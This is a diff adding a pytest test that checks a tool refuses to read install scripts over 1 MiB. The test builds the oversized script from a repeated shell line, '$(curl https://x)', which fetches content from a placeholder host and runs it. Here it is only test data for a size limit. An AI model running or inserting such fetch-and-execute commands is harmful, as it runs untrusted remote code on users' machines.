@@ -274,6 +274,14 @@ def test_scripts_are_inputs_and_are_read(job: Path) -> None:
     ]
 
 
+def test_a_script_that_carries_a_load_is_not_read(job: Path) -> None:
+    script = job / "install.sh"
+    script.write_bytes(b"#!/bin/sh\n" + b"\xff$(curl https://x)\n" * 100_000)
+    (line,) = open_ends(job, "sh", "install.sh")
+    assert line.startswith("command: install.sh: a script of more than 1 MiB is not read")
+    assert list(key(job, "sh", "install.sh", epoch="1").components["files"]) == ["install.sh"]  # type: ignore[arg-type]
+
+
 def test_what_a_script_makes_itself_may_be_declared(job: Path) -> None:
     (job / "install.sh").write_text("cd /work\npip install -r lists/requirements.txt\n")
     assert len(open_ends(job, "bash", "install.sh")) == 1
